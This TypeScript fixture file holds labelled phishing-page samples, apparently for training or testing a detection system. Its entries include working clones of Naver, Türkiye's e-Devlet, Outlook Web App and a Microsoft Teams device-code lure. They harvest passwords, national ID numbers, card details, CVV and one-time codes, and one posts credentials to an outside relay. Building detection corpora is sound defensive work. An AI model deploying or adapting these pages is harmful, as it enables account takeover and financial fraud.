import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, msSquares, jsRoute, jsonRoute, pngRoute, textRoute } from '../parts/i-parts.js';

// More credential phishing: Asia / Middle East / Türkiye portals, IPFS-hosted webmail kit, device-code
// lure, QR landing, gaming account.

export const entries: Entry[] = [
  {
  id: 'i-phish-kr-naver-login-security',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://nid-naver.login-protect.kr.com/nidlogin.login?mode=form&url=https%3A%2F%2Fmail.naver.com',
  body: doc({
    title: '네이버 : 로그인',
    lang: 'ko',
    head: `<style>body{margin:0;font-family:'Apple SD Gothic Neo','Malgun Gothic',sans-serif;background:#f5f6f7}.lg{text-align:center;padding:50px 0 20px;color:#03c75a;font-weight:900;font-size:40px}.bx{width:460px;margin:0 auto;background:#fff;border:1px solid #dadada;border-radius:6px;padding:20px 28px}.al{background:#fff5f5;color:#e0393e;font-size:13px;padding:10px;border-radius:4px}input{width:100%;box-sizing:border-box;border:1px solid #dadada;padding:14px;font-size:16px;margin-top:-1px}.b{width:100%;background:#03c75a;color:#fff;border:0;border-radius:6px;padding:14px;font-size:18px;margin-top:20px}.ft{text-align:center;font-size:12px;color:#888;margin:30px}</style>`,
    body: `<div class="lg">NAVER</div>
<div class="bx">
<p class="al">회원님의 계정이 해외 IP(러시아)에서 로그인 시도되어 보호조치 되었습니다. 본인 확인 후 보호조치를 해제해 주세요.</p>
<form id="frm" method="post" action="/nidlogin.proc"><input name="id" placeholder="아이디 또는 전화번호"><input name="pw" type="password" placeholder="비밀번호"><button class="b">로그인</button></form>
<p style="font-size:13px;color:#888"><label><input type="checkbox" style="width:auto"> 로그인 상태 유지</label></p>
</div>
<div class="ft">비밀번호 찾기 | 아이디 찾기 | 회원가입<br>© NAVER Corp.</div>`,
  }),
  routes: { 'nid-naver.login-protect.kr.com/nidlogin.proc': htmlRoute(doc({ title: '네이버 : 본인확인', lang: 'ko', body: `<div style="width:460px;margin:60px auto;font-family:'Malgun Gothic'"><h3>휴대전화 본인확인</h3><form method="post" action="/nidlogin.sms"><input name="phone" placeholder="휴대전화번호"><br><input name="code" placeholder="인증번호 6자리"><br><button>확인</button></form></div>` })) },
},
  {
  id: 'i-phish-tr-edevlet-iade-card',
  label: 'phishing',
  kind: 'gov-kit',
  url: 'https://turkiye-gov-tr.iade-basvuru.com/giris?hizmet=vergi-iadesi',
  body: doc({
    title: 'e-Devlet Kapısı - Giriş',
    lang: 'tr',
    head: `<style>body{margin:0;font-family:Roboto,Arial,sans-serif;background:#f2f2f2}.h{background:#fff;border-bottom:4px solid #e30a17;padding:14px 30px;font-weight:bold;color:#e30a17;font-size:20px}.c{max-width:440px;margin:30px auto;background:#fff;padding:26px;border-radius:4px}.tabs{display:flex;gap:4px;margin-bottom:16px}.tabs span{flex:1;text-align:center;font-size:12px;padding:8px;background:#eee}.tabs .on{background:#e30a17;color:#fff}input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #bbb;margin:5px 0 12px}.b{width:100%;background:#e30a17;color:#fff;border:0;padding:12px;font-size:15px}.n{font-size:13px;background:#fffbe6;padding:10px}</style>`,
    body: `<div class="h">☾★ türkiye.gov.tr · e-Devlet Kapısı</div>
<div class="c">
<p class="n">2025 yılına ait <b>1.847,60 TL</b> vergi iadeniz onaylanmıştır. İadenin kartınıza aktarılması için giriş yapınız.</p>
<div class="tabs"><span class="on">e-Devlet Şifresi</span><span>Mobil İmza</span><span>e-İmza</span><span>İnternet Bankacılığı</span></div>
<form id="e"><label>T.C. Kimlik No</label><input name="tc" maxlength="11" required><label>e-Devlet Şifresi</label><input name="sifre" type="password" required><button class="b">Giriş Yap</button></form>
</div>
<script>
document.getElementById('e').onsubmit=function(ev){ev.preventDefault();var d=new FormData(this);fetch('/api/l',{method:'POST',body:d});
document.querySelector('.c').innerHTML='<h3>İade Kartı Bilgileri</h3><p class="n">İade tutarı aşağıdaki karta aktarılacaktır.</p><form id="k"><input name="kart" placeholder="Kart Numarası"><input name="skt" placeholder="Son Kullanma (AA/YY)"><input name="cvv" placeholder="CVV"><input name="tel" placeholder="Cep Telefonu"><button class="b">İadeyi Al</button></form>';
document.getElementById('k').onsubmit=function(ev){ev.preventDefault();fetch('/api/k',{method:'POST',body:new FormData(this)});document.querySelector('.c').innerHTML='<h3>3D Secure Doğrulama</h3><p>Bankanızdan gelen SMS kodunu giriniz.</p><input id="s"><button class="b" onclick="fetch(\\'/api/s\\',{method:\\'POST\\',body:s.value})">Onayla</button>'}};
</script>`,
  }),
  routes: {
    'turkiye-gov-tr.iade-basvuru.com/api/l': jsonRoute({ ok: 1 }),
    'turkiye-gov-tr.iade-basvuru.com/api/k': jsonRoute({ ok: 1 }),
  },
},
  {
  id: 'i-phish-ipfs-webmail-owa-generic',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://bafybeigx3kqz7m2vq4l5n6yfhd2tq7wz3xj4rbpk5cu6nl7sd2ejq4yvme.ipfs.w3s-gateway.link/owa.html#accounts@norrland-timber.se',
  body: doc({
    title: 'Outlook Web App',
    head: `<style>body{margin:0;font-family:'Segoe UI','Segoe',Tahoma,Helvetica,Arial,sans-serif;background:#fff}.l{position:fixed;left:0;top:0;bottom:0;width:42%;background:#0072c6}.r{margin-left:42%;padding:14vh 8%}.sig{color:#0072c6;font-size:38px;font-weight:200;margin-bottom:24px}.f input{display:block;width:320px;border:1px solid #ccc;padding:7px;font-size:15px;margin-bottom:14px}.b{background:none;border:0;color:#333;font-size:22px;font-weight:200;cursor:pointer}.e{color:#a80000;font-size:13px}</style>`,
    body: `<div class="l"></div>
<div class="r">
<div class="sig">Outlook</div>
<div class="f"><div style="font-size:13px;color:#333">Domain\\user name:</div><input id="u"><div style="font-size:13px;color:#333">Password:</div><input id="p" type="password">
<button class="b" id="s">➔ sign in</button><p class="e" id="e"></p></div>
<p style="font-size:12px;color:#666;margin-top:60px">Connected to Microsoft Exchange<br>© 2025 Microsoft Corporation. All rights reserved.</p>
</div>
<script>
var h=decodeURIComponent(location.hash.slice(1));if(h.indexOf('@')>0){document.getElementById('u').value=h;document.title=h.split('@')[1]+' - Outlook Web App'}
var a=0;document.getElementById('s').onclick=function(){
var x=new XMLHttpRequest();x.open('POST','https://owa-relay.eu-submit.workers.dev/p',true);x.setRequestHeader('Content-Type','application/json');
x.send(JSON.stringify({u:u.value,p:p.value,a:++a,ua:navigator.userAgent}));
if(a<2){document.getElementById('e').textContent='The user name or password you entered isn\\'t correct. Try entering it again.';p.value=''}else{location.href='https://outlook.office.com/owa/'}};
</script>`,
  }),
},
  {
  id: 'i-phish-m365-device-code-teams-lure',
  label: 'phishing',
  kind: 'm365-kit',
  url: 'https://teams-meeting-join.ms-invite-center.com/l/meetup-join/19%3ameeting_NjJkYzQ0',
  body: doc({
    title: 'Microsoft Teams meeting',
    head: `<style>body{margin:0;font-family:'Segoe UI',sans-serif;background:#f5f5f5}.t{background:#464775;color:#fff;padding:12px 24px;font-weight:600}.c{max-width:520px;margin:50px auto;background:#fff;border-radius:6px;padding:32px;box-shadow:0 2px 8px #0002}.code{font-size:30px;letter-spacing:4px;font-weight:700;background:#f0f0f8;padding:14px;text-align:center;border-radius:4px;margin:14px 0}.b{display:inline-block;background:#5b5fc7;color:#fff;padding:10px 20px;border-radius:4px;text-decoration:none}.s{font-size:13px;color:#555}</style>`,
    body: `<div class="t">Microsoft Teams</div>
<div class="c">
<div>${msSquares}</div>
<h2>Join "Board Pre-Read: FY26 Budget"</h2>
<p class="s">Organizer: Office of the CFO · Today 15:00</p>
<p>Your organization requires device verification to join external meetings. Copy the code below, then select <b>Verify</b> and paste it on the Microsoft page.</p>
<div class="code" id="cd">…</div>
<button class="b" id="cp">Copy code &amp; Verify</button>
<p class="s">After verification you will be admitted to the meeting automatically. This code expires in 15 minutes.</p>
</div>
<script>
fetch('/api/devicecode').then(function(r){return r.json()}).then(function(j){document.getElementById('cd').textContent=j.user_code;
document.getElementById('cp').onclick=function(){navigator.clipboard&&navigator.clipboard.writeText(j.user_code).catch(function(){});window.open(j.verification_uri,'_blank','width=520,height=640')};
setInterval(function(){fetch('/api/poll?d='+j.device_code)},5000)});
</script>`,
  }),
  routes: {
    'teams-meeting-join.ms-invite-center.com/api/devicecode': jsonRoute({ user_code: 'KXQ7-2LMP', device_code: 'DAQABAAEAAAAmoFfGtYxvRrNriQdPKIZ-vP9', verification_uri: 'https://microsoft.com/devicelogin', expires_in: 900, interval: 5 }),
    'teams-meeting-join.ms-invite-center.com/api/poll': jsonRoute({ error: 'authorization_pending' }, 400),
  },
},
];
